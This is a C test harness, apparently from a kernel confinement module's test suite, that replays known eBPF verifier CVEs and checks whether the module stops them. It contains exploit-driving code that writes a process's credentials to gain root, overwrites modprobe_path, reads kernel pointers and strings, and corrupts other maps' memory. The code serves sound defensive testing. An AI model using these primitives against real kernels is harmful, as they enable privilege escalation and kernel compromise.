// SPDX-License-Identifier: GPL-2.0
/*
 * Replays of CVEs of the verifier: each program goes for what an exploit of its
 * CVE would, and this says whether it got it. A line for each test (`ok NAME` or
 * `not ok NAME`), and one for each row of the table in docs/security.md
 * (`# replay ...`, see docs/replays.awk).
 *
 *   --expect stop      the module confines: no replay gets what it goes for
 *   --expect escape    confinement and audits are off: each does
 *   --expect harmless  a stock kernel: its verifier takes them as they stand, and
 *                      is right about them
 *   --expect refused   policy=strict: what is not isolated does not load
 *   --only LIST        of these CVEs alone, with commas between them
 *   --files DIR        where the objects are (default: the current folder)
 *
 * With the module, it must be loaded with on_violation=abort.
 */
#include "breach_run.h"
#include "kernel_memory.h"

#include <bpf/btf.h>
#include <getopt.h>
#include <linux/magic.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#define NOBODY 65534


enum expectation { STOP, ESCAPE, HARMLESS, REFUSED };

static enum expectation expect = STOP;
static const char *files = ".";
static struct kcore kcore;
static struct btf *types;
static struct addresses told;
static int oracle, told_map, victim_map, victim_program;

enum { BANNER, MODPROBE };
static struct symbol symbols[] = {
	[BANNER] = {"linux_banner", 0},
	[MODPROBE] = {"modprobe_path", 0},
};

struct replay {
	const char *cve, *object, *class;
	const char *wrong; /* what the verifier of its time had wrong */
	const char *aim; /* what the program goes for */
	/* Goes for it: whether it was got, and in what words to say so. */
	bool (*go)(const struct replay *r);
	__u64 seed; /* the number with which the CPU differs from that verifier */
	/* The stock kernel lets it through as it stands; nothing of it is forged. */
	bool stands;
	/* The module lets the run go on, with what is the program's own. */
	bool goes_on;
};

/* Of the replay at work. */
static struct breach breach;
static int prog;
static struct outcome out;
static __u64 target;
static char words[160];

__attribute__((format(printf, 1, 2))) static void say(const char *format, ...)
{
	va_list args;

	va_start(args, format);
	vsnprintf(words, sizeof(words), format, args);
	va_end(args);
}

/* A member's offset in bytes, in anonymous parts as well; -1: there is none. */
static __s64 member(const struct btf_type *type, const char *name)
{
	const struct btf_member *m = btf_members(type);

	for (int i = 0; i < btf_vlen(type); i++) {
		const char *its = btf__name_by_offset(types, m[i].name_off);
		__s64 at = btf_member_bit_offset(type, i) / 8, in;
		const struct btf_type *part;

		if (!strcmp(its, name))
			return at;
		part = btf__type_by_id(types, m[i].type);
		if (*its || !btf_is_composite(part))
			continue;
		in = member(part, name);
		if (in >= 0)
			return at + in;
	}
	return -1;
}

static __u64 offset_of(const char *type, const char *name)
{
	__s32 id = btf__find_by_name_kind(types, type, BTF_KIND_STRUCT);
	__s64 at = id < 0 ? -1 : member(btf__type_by_id(types, id), name);

	if (at < 0)
		die("no %s in struct %s", name, type);
	return at;
}

static void ask_oracle(void)
{
	LIBBPF_OPTS(bpf_test_run_opts, opts);
	__u32 key = 0;

	if (bpf_prog_test_run_opts(oracle, &opts) || opts.retval ||
	    bpf_map_lookup_elem(told_map, &key, &told))
		die("the oracle: %s", strerror(errno));
}

/* The oracle and the victim, whose program and values are another domain's. */
static void load_victim(void)
{
	struct bpf_object *obj = load(files, "breach_oracle");

	victim_map = map_of(obj, "victim");
	told_map = map_of(obj, "told");
	oracle = program_of(obj, "oracle");
	victim_program = program_of(obj, "victim_program");
	ask_oracle();
}

static void set_victim(__u64 word)
{
	fill_victim(victim_map, word);
}

static __u64 victim_word(int n)
{
	__u64 all[VICTIM_WORDS];

	read_victim(victim_map, all);
	return all[n];
}

static struct outcome send_to(const struct replay *r, __u64 to, __u64 value)
{
	target = to;
	return give_order(&breach, prog,
			  (struct order){.target = to, .value = value, .seed = r->seed});
}

static __u64 word_of(const char *text)
{
	__u64 word = 0;

	memcpy(&word, text, strlen(text) < 8 ? strlen(text) : 8);
	return word;
}

static bool read_banner(const struct replay *r)
{
	/* Where the copy runs over a pointer on the stack, the packet is its source. */
	memcpy(packet + 8, &symbols[BANNER].address, 8);
	out = send_to(r, symbols[BANNER].address, 0);
	memset(packet, 0, sizeof(packet));
	say("read `%.8s`", (const char *)&out.order.got);
	return out.order.done && out.order.got == word_of("Linux ve");
}

static bool read_ops(const struct replay *r)
{
	__u64 at = told.victim_map + offset_of("bpf_map", "ops"), ops = read_kernel(&kcore, at);

	out = send_to(r, at, 0);
	say("read the address of the map's operations");
	return out.order.done && ops && out.order.got == ops;
}

static bool read_stack_end(const struct replay *r)
{
	out = send_to(r, told.stack, 0);
	say("read the magic number at the end of the task's stack");
	return out.order.done && (__u32)out.order.got == STACK_END_MAGIC;
}

static bool write_victim(const struct replay *r)
{
	set_victim(0);
	out = send_to(r, told.victim + 64, word_of("replayed"));
	say("changed the value");
	return victim_word(8) == word_of("replayed");
}

static __u32 victim_btf(void)
{
	struct bpf_map_info info = {};
	__u32 len = sizeof(info);

	if (bpf_map_get_info_by_fd(victim_map, &info, &len))
		die("map info: %s", strerror(errno));
	return info.btf_id;
}

/* What the map calls its type's number is what lies at an address that we choose. */
static bool read_by_btf(const struct replay *r)
{
	__u64 at = told.victim_map + offset_of("bpf_map", "btf");
	__u32 before = victim_btf(), text;
	__u64 old;

	out = send_to(r, at, symbols[BANNER].address - offset_of("btf", "id"));
	old = out.order.got;
	text = victim_btf();
	if (out.order.done && text != before) {
		struct outcome back = send_to(r, at, old);

		if (!back.order.done || victim_btf() != before)
			die("the victim's struct bpf_map cannot be mended");
	}
	say("`bpf_map_get_info_by_fd()` gave `%.4s`", (const char *)&text);
	return before && text == (__u32)word_of("Linu");
}

/* A process without rights, whose credentials are written. */
static bool become_root(const struct replay *r)
{
	__u64 cred = 0, task = 0;
	int to[2], from[2];
	__u32 euid = NOBODY;
	pid_t child;

	if (pipe(to) || pipe(from))
		die("pipe: %s", strerror(errno));
	fflush(stdout);
	child = fork();
	if (!child) {
		char go;

		ask_oracle();
		if (setresgid(NOBODY, NOBODY, NOBODY) || setresuid(NOBODY, NOBODY, NOBODY) ||
		    write(from[1], &told.task, 8) != 8 || read(to[0], &go, 1) != 1)
			_exit(1);
		euid = geteuid();
		_exit(write(from[1], &euid, 4) != 4);
	}
	if (child < 0 || read(from[0], &task, 8) != 8)
		die("no child");
	cred = read_kernel(&kcore, task + offset_of("task_struct", "cred"));
	/* The effective user and group. */
	out = send_to(r, cred + offset_of("cred", "euid"), 0);
	if (write(to[1], "", 1) != 1 || read(from[0], &euid, 4) != 4)
		die("the child has gone");
	waitpid(child, NULL, 0);
	for (int i = 0; i < 2; i++) {
		close(to[i]);
		close(from[i]);
	}
	say("the process has effective user %u", euid);
	return cred && !euid;
}

static bool write_comm(const struct replay *r)
{
	char before[17] = {}, after[17] = {};

	prctl(PR_GET_NAME, before);
	out = send_to(r, told.task + offset_of("task_struct", "comm"), word_of("replayed"));
	prctl(PR_GET_NAME, after);
	prctl(PR_SET_NAME, before);
	say("its name is `%.8s`", after);
	return !strncmp(after, "replayed", 8);
}

static bool write_modprobe(const struct replay *r)
{
	const char *path = "/proc/sys/kernel/modprobe";
	char before[256] = {}, after[256] = {};
	FILE *f = fopen(path, "r+");

	if (!f || !fgets(before, sizeof(before), f))
		die("%s: %s", path, strerror(errno));
	out = send_to(r, symbols[MODPROBE].address, word_of("/replay"));
	rewind(f);
	if (!fgets(after, sizeof(after), f))
		die("%s: %s", path, strerror(errno));
	rewind(f);
	if (strcmp(before, after) && (fputs(before, f) < 0 || fflush(f)))
		die("%s: %s", path, strerror(errno));
	fclose(f);
	after[strcspn(after, "\n")] = 0;
	say("the kernel would start `%.16s` as root", after);
	return !strcmp(after, "/replay");
}

/*
 * Of a forged header the kernel writes the length; the word behind says how many
 * pages before it the ring begins: one, which is mapped, and so are its positions.
 */
static bool submit_elsewhere(const struct replay *r)
{
	const __u64 header = 1ull << 32;

	set_victim(header);
	out = send_to(r, told.victim + 64 + 8, 0);
	say("changed the value by the length of a record");
	return victim_word(8) == (header | 1u << 31);
}

/* Within what the verifier believes, behind what there is: another map's value. */
static bool write_behind_record(const struct replay *r)
{
	__u64 base = attempt(&breach, prog, 0, 0).order.base;

	/* The kernel gives the lowest address that is free. */
	for (int n = 0; base && told.victim - base > BELIEVED_RECORD - 4096; n++) {
		if (n == 64)
			die("no victim within reach of a record");
		load_victim();
	}
	return write_victim(r);
}

static bool confuse_maps(const struct replay *r)
{
	__u32 entry = CONFUSED_ENTRY, loopback = 1;
	__u64 map, table, secret;

	if (offset_of("bpf_ringbuf", "producer_pos") != CONFUSED_ENTRY * 8 ||
	    offset_of("bpf_ringbuf_map", "rb") != offset_of("bpf_dtab", "netdev_map"))
		die("a ring buffer and a device map have nothing in common");
	if (bpf_map_update_elem(map_of(breach.obj, "devices"), &entry, &loopback, BPF_ANY))
		die("devices: %s", strerror(errno));
	out = send_to(r, 0, 0);
	/* The program says where it is. */
	target = map = out.order.target;
	table = read_kernel(&kcore, map + offset_of("bpf_dtab", "netdev_map"));
	secret = read_kernel(&kcore, table + 8 * CONFUSED_ENTRY);
	if (secret < 1ull << 63)
		die("the device map has no entry");
	say("read a kernel pointer out of the map's table");
	return out.order.got == secret;
}

/* What of the leaked pointers are the kernel's, and whether one is good for more. */
static bool leak(const struct replay *r)
{
	static const char *const names[] = {
		[LEAKED_STACK] = "stack", [LEAKED_CONTEXT] = "context",
		[LEAKED_PACKET] = "packet", [LEAKED_VALUE] = "value",
		[LEAKED_LENT] = "lent value", [LEAKED_MAP] = "`struct bpf_map`",
	};
	char list[100] = "";
	struct spans own = {};
	struct leaks leaks;
	int kernels = 0;
	__u32 key = 0;
	__u64 ops;

	/* The pointer stays where it is. */
	out = give_order(&breach, prog, (struct order){.relative = 1});
	if (!out.order.done || bpf_map_lookup_elem(map_of(breach.obj, "told"), &key, &leaks))
		die("%s tells nothing", r->cve);
	add_own_domain(&own, leaks.pointer[LEAKED_VALUE]);
	for (int i = 0; i < LEAKED; i++) {
		if (leaks.pointer[i] < 1ull << 63)
			die("%s: %s is %llx", r->cve, names[i], leaks.pointer[i]);
		if (in_spans(&own, leaks.pointer[i]))
			continue;
		strcat(strcat(list, kernels++ ? ", " : ""), names[i]);
	}
	target = leaks.pointer[LEAKED_MAP] + offset_of("bpf_map", "ops");
	ops = read_kernel(&kcore, target);
	out = send_to(r, target, 0);
	say("tells where %d of %d are: %s%s", kernels, LEAKED, list,
	    expect == HARMLESS ? "" : out.order.done ? "; reads the map there" : "; going there");
	/* With the module, maps and lent values are still told by their addresses. */
	if (kernels != (expect == HARMLESS ? LEAKED : 2))
		die("%s: %s", r->cve, words);
	return expect == HARMLESS || (out.order.done && out.order.got == ops);
}

static bool print_string(const struct replay *r)
{
	const char *trace = "/sys/kernel/tracing/trace";
	FILE *f = fopen(trace, "w");
	bool printed = false;
	char line[1024];

	if (f)
		fclose(f);
	out = send_to(r, symbols[BANNER].address, 0);
	f = fopen(trace, "r");
	if (!f)
		die("%s: %s", trace, strerror(errno));
	while (fgets(line, sizeof(line), f))
		printed |= strstr(line, "replay: Linux version") != NULL;
	fclose(f);
	say("the trace has `Linux version`");
	return printed;
}

static bool read_by_dynptr(const struct replay *r)
{
	bool got = read_banner(r);

	if (!got)
		say("it reads its own memory, %llu", out.order.got);
	return got && out.order.done;
}

#define BOUNDS(number, its_seed, was, goes_for, how) \
	{ \
		.cve = "CVE-" number, .object = "replay_bounds", .class = "bounds", \
		.wrong = was, .aim = goes_for, .go = how, .seed = its_seed, \
	}

static const struct replay replays[] = {
	BOUNDS("2020-8835", 2, "the lower half after a comparison of halves",
	       "`btf` of a map, to read a kernel string by the map's info", read_by_btf),
	BOUNDS("2020-27194", 2, "the lower half after an OR of 64 bits", "`ops` of a map, to read",
	       read_ops),
	BOUNDS("2021-3490", 1ull << 32, "the lower half after an AND with a known one",
	       "the credentials of a process without rights, to write", become_root),
	BOUNDS("2021-31440", 1ull << 32, "the lower half of a number of at least 1",
	       "another domain's value, to write", write_victim),
	BOUNDS("2023-2163", 1024, "that a way was seen before (precision of a comparison)",
	       "`comm` of the running task, to write", write_comm),
	BOUNDS("2024-41003", 0x7fffffff, "a number that was compared to an immediate one",
	       "another domain's value, to write", write_victim),
	BOUNDS("2026-31413", 0, "-1 or 0 after an OR with a constant", "`modprobe_path`, to write",
	       write_modprobe),
	BOUNDS("2026-43009", 1, "that a way was seen before (an atomic fetch from the stack)",
	       "the end of the task's kernel stack, to read", read_stack_end),
	{
		.cve = "CVE-2022-23222", .object = "replay_null", .class = "OR_NULL arithmetic",
		.wrong = "NULL + 1 is 0", .go = read_banner,
		.aim = "a pointer on its stack, to read a kernel string by it",
	},
	{
		.cve = "CVE-2021-4204", .object = "replay_ring", .class = "ring-buffer pointer",
		.wrong = "that a record is submitted as it was given", .go = submit_elsewhere,
		.aim = "another domain's value, as a record's header",
	},
	{
		.cve = "CVE-2021-3489", .object = "replay_ring", .class = "ring-buffer size",
		.wrong = "how long a record is", .go = write_behind_record,
		.aim = "another domain's value, behind the ring",
	},
	{
		.cve = "CVE-2021-34866", .object = "replay_map", .class = "map-type confusion",
		.wrong = "that the map is a ring buffer", .go = confuse_maps,
		.aim = "a kernel pointer in a device map",
	},
	{
		.cve = "CVE-2021-45402", .object = "replay_leak", .class = "pointer leak",
		.wrong = "what a 32-bit move leaves of a pointer", .go = leak, .stands = true,
		.aim = "the kernel's addresses; then its map, to read",
	},
	{
		.cve = "CVE-2022-0264", .object = "replay_leak", .class = "pointer leak",
		.wrong = "what an atomic operation fetches", .go = leak, .stands = true,
		.aim = "the kernel's addresses; then its map, to read",
	},
	{
		.cve = "CVE-2022-2785", .object = "replay_follow", .class = "helper inspection",
		.wrong = "pointers that a helper follows", .go = print_string, .stands = true,
		.aim = "a kernel string, as `%s` of `bpf_trace_printk()`",
	},
	{
		.cve = "CVE-2023-39191", .object = "replay_dynptr", .class = "dynptr",
		.wrong = "that a dynptr is what it was", .go = read_by_dynptr, .goes_on = true,
		.aim = "a kernel string, by a dynptr written over on the stack",
	},
};

/* Kind and address of the program's last violation, from the module's account. */
static void last_violation(__u32 id, char *kind, __u64 *address)
{
	FILE *f = fopen(BAILEY "violations", "r");
	char line[512], its_kind[16];
	__u64 its_address;
	__u32 its_id;

	strcpy(kind, "none");
	*address = 0;
	while (f && fgets(line, sizeof(line), f))
		if (sscanf(line, "%*s %*s %*s %llx %15s %u", &its_address, its_kind,
			   &its_id) == 3 && its_id == id) {
			strcpy(kind, its_kind);
			*address = its_address;
		}
	if (f)
		fclose(f);
}

/* Whether all went as the expectation says; `words` say how it went. */
static bool judge(const struct replay *r, bool got)
{
	char kind[16], before[sizeof(words)];
	__u64 address;

	if (expect == ESCAPE)
		return got && out.order.done;
	if (expect == HARMLESS) {
		if (!got)
			say(out.order.done ? "reaches its own memory alone" :
					     "gets no record that long");
		return got == r->stands && out.verdict;
	}
	if (r->goes_on)
		return !got && out.order.done;
	last_violation(program_id(prog), kind, &address);
	strcpy(before, words);
	if (r->go == leak)
		say("%.140s: ended, `%s`", before, kind);
	else
		say("ended, `%s`", kind);
	/* The violation must be the one that was meant. */
	return !got && was_ended(&out) && address == target;
}

/* `cve_2020_8835` of the object, for CVE-2020-8835. */
static struct bpf_program *program_for(const struct replay *r, struct bpf_object *obj)
{
	struct bpf_program *found;
	char name[32];

	snprintf(name, sizeof(name), "cve_%s", r->cve + 4);
	for (char *c = name; *c; c++)
		if (*c == '-')
			*c = '_';
	found = bpf_object__find_program_by_name(obj, name);
	if (!found)
		die("no program %s", name);
	return found;
}

static int silent(enum libbpf_print_level level, const char *format, va_list args)
{
	(void)level;
	(void)format;
	(void)args;
	return 0;
}

/*
 * The same program without the mask that stands for the bug: what the CPU makes
 * of the sequence is what today's verifier makes of it, so it refuses the access.
 */
static void without_mask(const struct replay *r)
{
	struct bpf_program *found, *other;
	struct bpf_object *obj;
	const char *complaint = "taken";
	int masks = 0, processed = 0, err;
	static char log[1 << 20];
	libbpf_print_fn_t print;
	struct bpf_insn *insns;
	char path[512];

	snprintf(path, sizeof(path), "%s/%s.bpf.o", files, r->object);
	obj = bpf_object__open_file(path, NULL);
	if (!obj)
		die("%s: %s", path, strerror(errno));
	found = program_for(r, obj);
	bpf_object__for_each_program(other, obj)
		bpf_program__set_autoload(other, other == found);
	/* Not loaded yet, so these are still the ones that libbpf will load. */
	insns = (struct bpf_insn *)bpf_program__insns(found);
	for (size_t i = 0; i < bpf_program__insn_cnt(found); i++) {
		if (insns[i].code != (BPF_ALU64 | BPF_AND | BPF_K) || insns[i].imm)
			continue;
		/* A jump to the next instruction. */
		insns[i] = (struct bpf_insn){.code = BPF_JMP | BPF_JA};
		masks++;
	}
	bpf_program__set_log_buf(found, log, sizeof(log));
	print = libbpf_set_print(silent);
	err = bpf_object__load(obj);
	libbpf_set_print(print);
	/* It went through the program, and its last word but one says what it minds. */
	for (char *line = strtok(log, "\n"); line && err; line = strtok(NULL, "\n")) {
		if (sscanf(line, "processed %d insns", &processed) == 1)
			break;
		complaint = line;
	}
	report(masks == 1 && err && processed > 0,
	       "%s is refused by the stock verifier without its mask (%s)", r->cve, complaint);
	bpf_object__close(obj);
}

static void replay(const struct replay *r)
{
	static const char *const modes[] = {"stop", "escape", "harmless"};
	static const char *const sentences[] = {
		[STOP] = "%s does not get what it goes for (%s)",
		[ESCAPE] = "%s gets what it goes for where nothing stops it (%s)",
		[HARMLESS] = "%s is taken by the stock verifier with its mask, and harmless (%s)",
	};
	const char *sentence = sentences[expect];
	struct bpf_program *found;
	bool good;

	breach = load_breach(files, r->object);
	found = program_for(r, breach.obj);
	prog = bpf_program__fd(found);
	if (expect != HARMLESS && !is_isolated(found)) {
		report(false, "%s is isolated", r->cve);
		return;
	}
	if (expect == HARMLESS && r->stands)
		sentence = "%s does on the stock kernel what it may (%s)";
	words[0] = 0;
	good = judge(r, r->go(r));
	printf("# replay %s | %s | %s | %s | %s | %s\n", modes[expect], r->cve, r->class, r->wrong,
	       r->aim, words);
	if (!good)
		printf("# verdict %d, done %llu, got %llx, base %llx, target %llx\n", out.verdict,
		       out.order.done, out.order.got, out.order.base, target);
	report(good, sentence, r->cve, words);
	if (breach.ring)
		ring_buffer__free(breach.ring);
	bpf_object__close(breach.obj);
	if (expect == HARMLESS && !r->stands)
		without_mask(r);
}

/* What CVE-2022-2785 itself was about. */
static void syscall_program(void)
{
	struct bpf_object *obj;
	char path[512];
	int err;

	snprintf(path, sizeof(path), "%s/replay_syscall.bpf.o", files);
	obj = bpf_object__open_file(path, NULL);
	if (!obj)
		die("%s: %s", path, strerror(errno));
	err = bpf_object__load(obj);
	if (expect == REFUSED)
		report(err == -EPERM, "strict: no program that makes system calls is loaded");
	else
		report(!err, "a program that makes system calls is loaded");
	bpf_object__close(obj);
}

int main(int argc, char **argv)
{
	static const struct option options[] = {
		{"expect", required_argument, NULL, 'e'},
		{"only", required_argument, NULL, 'o'},
		{"files", required_argument, NULL, 'f'},
		{},
	};
	const char *only = NULL;
	int c, tried = 0;

	while ((c = getopt_long(argc, argv, "", options, NULL)) != -1) {
		if (c == 'f')
			files = optarg;
		else if (c == 'o')
			only = optarg;
		else if (c == 'e')
			expect = !strcmp(optarg, "stop") ? STOP :
				 !strcmp(optarg, "escape") ? ESCAPE :
				 !strcmp(optarg, "refused") ? REFUSED : HARMLESS;
		else
			die("usage: replays --expect stop|escape|harmless|refused [--only LIST] "
			    "[--files DIR]");
	}
	if (expect == REFUSED) {
		syscall_program();
		return failed ? 1 : 0;
	}
	pin_to_cpu(0);
	kcore = open_kcore();
	types = btf__load_vmlinux_btf();
	if (!types)
		die("the kernel has no BTF");
	find_symbols(symbols, ARRAY_SIZE(symbols), NULL, NULL);
	load_victim();
	for (size_t i = 0; i < ARRAY_SIZE(replays); i++) {
		if (only && !strstr(only, replays[i].cve))
			continue;
		replay(&replays[i]);
		tried++;
	}
	if (!tried)
		die("%s: no such replay", only);
	if (expect == HARMLESS)
		syscall_program();
	printf("# ended %llu\n", ended_runs);
	report(test_run(victim_program) == 2, "the victim goes on working");
	return failed ? 1 : 0;
}
